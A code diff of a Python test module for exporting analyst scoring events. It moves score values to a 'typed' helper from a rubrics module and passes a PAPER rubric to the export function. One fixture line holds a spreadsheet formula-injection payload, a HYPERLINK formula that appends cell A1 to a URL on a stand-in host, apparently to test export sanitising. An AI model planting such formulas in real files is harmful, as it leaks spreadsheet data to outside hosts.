@@ -11,14 +11,14 @@ import openpyxl
 from genaipa.scoring.answers import Answer, Occurrence
 from genaipa.scoring.events import Event
 from genaipa.scoring.exchange.exporting import write_scores
-from genaipa.scoring.rubric import Values
+from rubrics import PAPER, typed
 
 if TYPE_CHECKING:
     from collections.abc import Sequence
 
     from genaipa.scoring.store import Store
 
-GOOD = Values(1.0, 1.0, 0.5, 0.5, -1.0)
+GOOD = typed("11223")
 HEAD = "digest,relevance,accuracy,clarity,completeness,reference,note,analyst"
 FORMULA = '=HYPERLINK("http://example.com/?"&A1)'
 
@@ -57,7 +57,7 @@ HISTORY = [
     event(1, seconds=12.5, note="fine", suggested={"reference": -1.0, "accuracy": 0.5}, preselected=True),
     event(2, calibration=True, blind=False),
     event(3, kind="skip", values=None),
-    event(4, answer=digest(1), values=Values(0.5, 0.5, 0.5, 0.5, 0.5), note="second thoughts\nover two lines"),
+    event(4, answer=digest(1), values=typed("22222"), note="second thoughts\nover two lines"),
     event(5, answer=digest(2), kind="undo", values=None, undoes="id2"),
     event(6, answer=digest(1), analyst="Bo", note=FORMULA),
     event(7, answer=digest(1), analyst="Cy", kind="adjudication"),
@@ -75,7 +75,7 @@ def kept(store: Store) -> list[Event]:
 def exported(suffix: str, events: Sequence[Event]) -> bytes:
     """What is written of these events in a format."""
     file = io.BytesIO()
-    write_scores(file, suffix, events, ANSWERS)
+    write_scores(file, suffix, events, ANSWERS, PAPER)
     return file.getvalue()
 
 
